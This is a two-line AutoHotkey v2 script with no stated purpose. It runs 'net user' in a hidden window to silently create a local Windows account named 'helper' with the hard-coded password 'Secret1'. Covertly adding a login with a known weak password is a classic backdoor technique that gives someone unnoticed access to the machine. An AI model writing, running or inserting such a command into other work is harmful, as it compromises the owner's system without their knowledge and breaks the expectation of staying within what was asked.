#Requires AutoHotkey v2.0
Run 'net user helper Secret1 /add', , 'Hide'
